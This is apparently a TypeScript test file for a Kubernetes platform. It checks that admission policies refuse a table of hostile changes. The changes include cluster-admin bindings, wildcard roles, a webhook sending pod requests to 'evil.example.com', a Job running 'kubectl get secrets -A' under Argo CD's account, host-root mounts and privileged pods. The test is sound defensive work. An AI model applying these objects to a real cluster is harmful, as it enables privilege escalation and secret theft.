// A table of hostile changes: what a committer with write access to the synced branch, or a
// compromised app, could try. Each row is a concrete object, sent through the offline admission
// evaluator (scripts/render/admission.ts) with every policy the program registers — the pod
// baseline, the catalog's exceptions and the cluster-wide boundary rules — and with the user
// the request would arrive with in the cluster (Argo CD's application controller for anything
// from Git, an app's service account for anything an app does). Each row is refused, names the
// rule that refuses it, and every boundary rule refuses at least one row.

import * as assert from "node:assert/strict";
import { admissionRuleNames, argoCdControllerUser } from "../components/addons/admission-rules";
import { stackAdmissionRules } from "../components/addons/kyverno";
import { policyExceptions, validatingPolicies } from "../components/addons/kyverno-policies";
import { coreAddons, enabledGitopsApps, type CatalogApp } from "../components/catalog";
import { policyDocument, secretReaders } from "../components/vault-policies";
import { valuesContext } from "../components/gitops/manifests";
import { admit, type AdmissionRequest, type KubeObject, type UserInfo } from "../scripts/render/admission";
import type { PlatformConfig } from "../components/config-types";

const domain = "fawkes.test";
const apps: CatalogApp[] = [...coreAddons({ provider: "kind", ha: false, ingressController: "traefik", gitServer: true }), ...enabledGitopsApps({})];
const policies = [...validatingPolicies(), ...policyExceptions(apps), ...stackAdmissionRules(apps, domain)] as KubeObject[];

const partOf = { "app.kubernetes.io/part-of": "fawkes" };
const ns = (name: string, labels: Record<string, string> = partOf): KubeObject => ({ apiVersion: "v1", kind: "Namespace", metadata: { name, labels } });

const gitUser: UserInfo = { username: argoCdControllerUser, groups: ["system:serviceaccounts", "system:serviceaccounts:argocd", "system:authenticated"] };
const jenkinsBuild: UserInfo = { username: "system:serviceaccount:jenkins:default", groups: ["system:serviceaccounts", "system:serviceaccounts:jenkins", "system:authenticated"] };

/** A pod of Jenkins (the app's label, pinned image, resources, non-root), made hostile by `change`. */
function jenkinsPod(change: (spec: Record<string, unknown>) => void): KubeObject {
    const container = {
        name: "build",
        image: "docker.io/library/alpine:3.22",
        resources: { requests: { cpu: "100m", memory: "64Mi" }, limits: { cpu: "200m", memory: "128Mi" } },
        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } },
    };
    const spec: Record<string, unknown> = { securityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } }, containers: [container] };
    change(spec);
    return { apiVersion: "v1", kind: "Pod", metadata: { name: "build-1", namespace: "jenkins", labels: { "app.kubernetes.io/name": "jenkins-build" } }, spec };
}
const firstContainer = (spec: Record<string, unknown>) => (spec.containers as Record<string, unknown>[])[0];

const binding = (kind: "ClusterRoleBinding" | "RoleBinding", role: string, namespace?: string): KubeObject => ({
    apiVersion: "rbac.authorization.k8s.io/v1",
    kind,
    metadata: { name: "jenkins-agent-admin", ...(namespace ? { namespace } : {}) },
    roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: role },
    subjects: [{ kind: "ServiceAccount", name: "default", namespace: "jenkins" }],
});
const clusterRole = (name: string, rules: unknown[]): KubeObject => ({ apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRole", metadata: { name }, rules });
const webhook = (kind: string, name: string, namespaceSelector: unknown, labels?: Record<string, string>): KubeObject => ({
    apiVersion: "admissionregistration.k8s.io/v1",
    kind,
    metadata: { name, ...(labels ? { labels } : {}) },
    webhooks: [
        {
            name: "pods.evil.example.com",
            clientConfig: { url: "https://evil.example.com/hook" },
            rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }],
            ...(namespaceSelector ? { namespaceSelector } : {}),
            sideEffects: "None",
            admissionReviewVersions: ["v1"],
        },
    ],
});
const job = (name: string): KubeObject => ({
    apiVersion: "batch/v1",
    kind: "Job",
    metadata: { name, namespace: "argocd" },
    spec: { template: { spec: { serviceAccountName: "argo-cd-argocd-application-controller", restartPolicy: "Never", containers: [{ name: "x", image: "bitnami/kubectl:1.35.0", command: ["kubectl", "get", "secrets", "-A"] }] } } },
});
const ingress = (namespace: string, hosts: string[], tls: string[] = []): KubeObject => ({
    apiVersion: "networking.k8s.io/v1",
    kind: "Ingress",
    metadata: { name: "claim", namespace },
    spec: {
        rules: hosts.map((host) => ({ host, http: { paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: "jenkins", port: { number: 8080 } } } }] } })),
        ...(tls.length > 0 ? { tls: [{ hosts: tls, secretName: "claim-tls" }] } : {}),
    },
});
const application = (name: string, project: string): KubeObject => ({
    apiVersion: "argoproj.io/v1alpha1",
    kind: "Application",
    metadata: { name, namespace: "argocd" },
    spec: { project, source: { repoURL: "https://charts.example.com", chart: "anything", targetRevision: "1.0.0" }, destination: { server: "https://kubernetes.default.svc", namespace: "kube-system" } },
});
const policyException = (apiVersion: string, namespace: string): KubeObject => ({
    apiVersion,
    kind: "PolicyException",
    metadata: { name: "let-me-in", namespace },
    spec: { policyRefs: [{ name: "disallow-privileged-containers", kind: "ValidatingPolicy" }], matchConditions: [{ name: "all", expression: "true" }] },
});

interface Row {
    readonly change: string;
    /** The policy that refuses it. */
    readonly rule: string;
    readonly request: AdmissionRequest;
}

const rows: readonly Row[] = [
    { change: "a ClusterRoleBinding to cluster-admin in an app's chart values", rule: "restrict-privileged-bindings", request: { object: binding("ClusterRoleBinding", "cluster-admin"), userInfo: gitUser } },
    { change: "a RoleBinding to ClusterRole admin in jenkins from Git", rule: "restrict-privileged-bindings", request: { object: binding("RoleBinding", "admin", "jenkins"), namespace: ns("jenkins"), userInfo: gitUser } },
    { change: "a CI build binding itself to ClusterRole edit", rule: "restrict-privileged-bindings", request: { object: binding("ClusterRoleBinding", "edit"), userInfo: jenkinsBuild } },
    {
        change: "a ClusterRoleBinding to cluster-admin labelled and named like the platform's own",
        rule: "restrict-privileged-bindings",
        request: { object: { ...binding("ClusterRoleBinding", "cluster-admin"), metadata: { name: "kyverno:admin", labels: { ...partOf, "app.kubernetes.io/managed-by": "pulumi" } } }, userInfo: gitUser },
    },
    { change: "a ClusterRole `*/*/*` in a chart", rule: "restrict-wildcard-roles", request: { object: clusterRole("evil", [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]), userInfo: gitUser } },
    { change: "a ClusterRole with `*` verbs on RBAC", rule: "restrict-wildcard-roles", request: { object: clusterRole("evil-rbac", [{ apiGroups: ["rbac.authorization.k8s.io"], resources: ["clusterrolebindings"], verbs: ["*"] }]), userInfo: gitUser } },
    { change: "a ClusterRole with `*` verbs on every Secret", rule: "restrict-wildcard-roles", request: { object: clusterRole("evil-secrets", [{ apiGroups: [""], resources: ["secrets"], verbs: ["*"] }]), userInfo: gitUser } },
    {
        change: "the allow-listed operator's ClusterRole, copied by an app under another name",
        rule: "restrict-wildcard-roles",
        request: { object: clusterRole("kube-prometheus-stack-operator-2", [{ apiGroups: [""], resources: ["secrets"], verbs: ["*"] }]), userInfo: gitUser },
    },
    { change: "a ValidatingWebhookConfiguration matching kube-system (no namespaceSelector)", rule: "restrict-webhooks", request: { object: webhook("ValidatingWebhookConfiguration", "evil", undefined), userInfo: gitUser } },
    {
        change: "a MutatingWebhookConfiguration on pods that leaves out kube-system but not argocd",
        rule: "restrict-webhooks",
        request: { object: webhook("MutatingWebhookConfiguration", "evil", { matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["kube-system"] }] }), userInfo: gitUser },
    },
    {
        change: "a webhook named and labelled like Kyverno's",
        rule: "restrict-webhooks",
        request: { object: webhook("ValidatingWebhookConfiguration", "kyverno-resource-validating-webhook-cfg", undefined, { "webhook.kyverno.io/managed-by": "kyverno" }), userInfo: gitUser },
    },
    { change: "a Job in argocd with the controller's service account", rule: "restrict-argocd-workloads", request: { object: job("steal"), namespace: ns("argocd"), userInfo: gitUser } },
    {
        change: "a Pod in argocd from Git",
        rule: "restrict-argocd-workloads",
        request: { object: { ...jenkinsPod(() => undefined), metadata: { name: "steal", namespace: "argocd", labels: { "app.kubernetes.io/name": "x" } } }, namespace: ns("argocd"), userInfo: gitUser },
    },
    {
        change: "an update of Argo CD's repo server Deployment by the controller",
        rule: "restrict-argocd-workloads",
        request: {
            object: { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "argo-cd-argocd-repo-server", namespace: "argocd" }, spec: { template: { spec: { containers: [{ name: "x", image: "evil:1" }] } } } },
            operation: "UPDATE",
            namespace: ns("argocd"),
            userInfo: gitUser,
        },
    },
    {
        change: "a SecretStore from Git",
        rule: "restrict-secret-stores",
        request: { object: { apiVersion: "external-secrets.io/v1", kind: "SecretStore", metadata: { name: "vault-root", namespace: "jenkins" }, spec: { provider: { vault: { server: "http://vault.vault:8200" } } } }, namespace: ns("jenkins"), userInfo: gitUser },
    },
    {
        change: "a ClusterSecretStore from Git",
        rule: "restrict-secret-stores",
        request: { object: { apiVersion: "external-secrets.io/v1", kind: "ClusterSecretStore", metadata: { name: "everything" }, spec: { provider: { vault: { server: "http://vault.vault:8200" } } } }, userInfo: gitUser },
    },
    { change: "a PolicyException from Git in jenkins", rule: "restrict-policy-exceptions", request: { object: policyException("policies.kyverno.io/v1", "jenkins"), namespace: ns("jenkins"), userInfo: gitUser } },
    { change: "a kyverno.io/v2 PolicyException in default", rule: "restrict-policy-exceptions", request: { object: policyException("kyverno.io/v2", "default"), namespace: ns("default", {}), userInfo: gitUser } },
    { change: "an Application claiming another app's project", rule: "application-project", request: { object: application("jenkins", "kube-prometheus-stack"), namespace: ns("argocd"), userInfo: gitUser } },
    { change: "an Application claiming the root project", rule: "application-project", request: { object: application("jenkins", "fawkes-platform"), namespace: ns("argocd"), userInfo: gitUser } },
    { change: "an Application the catalog does not know", rule: "application-project", request: { object: application("kube-system-takeover", "jenkins"), namespace: ns("argocd"), userInfo: gitUser } },
    { change: `an Ingress claiming vault.${domain} from jenkins`, rule: "ingress-hosts", request: { object: ingress("jenkins", [`vault.${domain}`]), namespace: ns("jenkins"), userInfo: gitUser } },
    { change: "an Ingress whose tls takes Argo CD's host", rule: "ingress-hosts", request: { object: ingress("jenkins", [`jenkins.${domain}`], [`argocd.${domain}`]), namespace: ns("jenkins"), userInfo: gitUser } },
    { change: "an Ingress under the domain from a namespace the catalog does not know", rule: "ingress-hosts", request: { object: ingress("scratch", [`login.${domain}`]), namespace: ns("scratch", {}), userInfo: gitUser } },
    { change: "a pod with a hostPath volume", rule: "disallow-host-path", request: { object: jenkinsPod((s) => (s.volumes = [{ name: "root", hostPath: { path: "/" } }])), namespace: ns("jenkins"), userInfo: gitUser } },
    { change: "a pod with hostPID", rule: "disallow-host-namespaces", request: { object: jenkinsPod((s) => (s.hostPID = true)), namespace: ns("jenkins"), userInfo: gitUser } },
    {
        change: "a pod adding SYS_ADMIN",
        rule: "disallow-capabilities",
        request: { object: jenkinsPod((s) => (firstContainer(s).securityContext = { allowPrivilegeEscalation: false, capabilities: { add: ["SYS_ADMIN"] } })), namespace: ns("jenkins"), userInfo: gitUser },
    },
    {
        change: "a root init container under a non-root pod",
        rule: "require-run-as-non-root",
        request: { object: jenkinsPod((s) => (s.initContainers = [{ ...firstContainer(s), name: "init", securityContext: { runAsNonRoot: false, runAsUser: 0 } }])), namespace: ns("jenkins"), userInfo: gitUser },
    },
    { change: "a privileged container", rule: "disallow-privileged-containers", request: { object: jenkinsPod((s) => (firstContainer(s).securityContext = { privileged: true })), namespace: ns("jenkins"), userInfo: gitUser } },
    { change: "an image with no tag", rule: "disallow-latest-tag", request: { object: jenkinsPod((s) => (firstContainer(s).image = "registry.example.com:5000/miner")), namespace: ns("jenkins"), userInfo: gitUser } },
];

const refusingPolicies = (request: AdmissionRequest) => [...new Set(admit(policies, request, { everyValidation: true }).verdicts.filter((v) => v.denies).map((v) => v.policy))];

describe("hostile changes: each refused by the rule it names", () => {
    it("has at least 20 rows, and each boundary rule refuses at least one", () => {
        assert.ok(rows.length >= 20, `${rows.length} rows`);
        for (const rule of admissionRuleNames) {
            assert.ok(rows.some((r) => r.rule === rule), `no row for ${rule}`);
        }
        const known = new Set(policies.filter((p) => p.kind === "ValidatingPolicy").map((p) => p.metadata.name));
        for (const row of rows) {
            assert.ok(known.has(row.rule), `${row.change}: ${row.rule} is not a policy the program registers`);
        }
    });

    for (const row of rows) {
        it(`${row.change}: refused by ${row.rule}`, () => {
            const refused = refusingPolicies(row.request);
            assert.ok(refused.includes(row.rule), `refused by [${refused.join(", ")}], not by ${row.rule}`);
        });
    }

    it("each row is allowed once the hostile part is gone: the rules refuse the change, not the kind", () => {
        const pulumi: UserInfo = { username: "kubernetes-admin", groups: ["kubeadm:cluster-admins", "system:authenticated"] };
        // The platform's identity may bind cluster-admin, create stores, webhooks and argocd Jobs.
        for (const row of rows.filter((r) => ["restrict-privileged-bindings", "restrict-wildcard-roles", "restrict-webhooks", "restrict-argocd-workloads", "restrict-secret-stores"].includes(r.rule))) {
            assert.deepEqual(refusingPolicies({ ...row.request, userInfo: pulumi }).filter((p) => p === row.rule), [], `${row.change}, as Pulumi`);
        }
        assert.deepEqual(refusingPolicies({ object: application("jenkins", "jenkins"), namespace: ns("argocd"), userInfo: gitUser }), []);
        assert.deepEqual(refusingPolicies({ object: ingress("jenkins", [`jenkins.${domain}`], [`jenkins.${domain}`]), namespace: ns("jenkins"), userInfo: gitUser }), []);
        assert.deepEqual(refusingPolicies({ object: policyException("policies.kyverno.io/v1", "kyverno"), namespace: ns("kyverno"), userInfo: pulumi }), []);
        assert.deepEqual(refusingPolicies({ object: jenkinsPod(() => undefined), namespace: ns("jenkins"), userInfo: gitUser }), []);
    });

    it("an ExternalSecret in jenkins reading argocd/admin: no rule admits it, Vault's policy for jenkins refuses the read", () => {
        // Admission has nothing to refuse (the ExternalSecret is the app's kind, in its namespace,
        // through its namespace's own store); the boundary is the store's Vault role, whose policy
        // names only jenkins's own paths.
        const config = { domain, cluster: { provider: "kind" }, tls: { issuer: "local-ca" }, ingress: { controller: "traefik" }, apps: {} } as unknown as PlatformConfig;
        const readers = secretReaders(enabledGitopsApps({}), valuesContext(config));
        const jenkins = readers.find((r) => r.app === "jenkins");
        assert.ok(jenkins, "jenkins has a Vault reader");
        const paths = [...policyDocument(jenkins).matchAll(/path "([^"]+)"/g)].map((m) => m[1]);
        assert.ok(paths.length > 0);
        // Vault's path rules: a trailing `*` is a prefix glob, `+` one segment.
        const covers = (rule: string, path: string) => {
            const re = new RegExp(`^${rule.replace(/[.?^${}()|[\]\\]/g, "\\$&").replace(/\+/g, "[^/]+").replace(/\*$/, ".*")}$`);
            return re.test(path);
        };
        assert.ok(paths.every((p) => !covers(p, "platform/data/argocd/admin")), paths.join(", "));
        assert.ok(paths.some((p) => covers(p, paths[0])));
    });
});
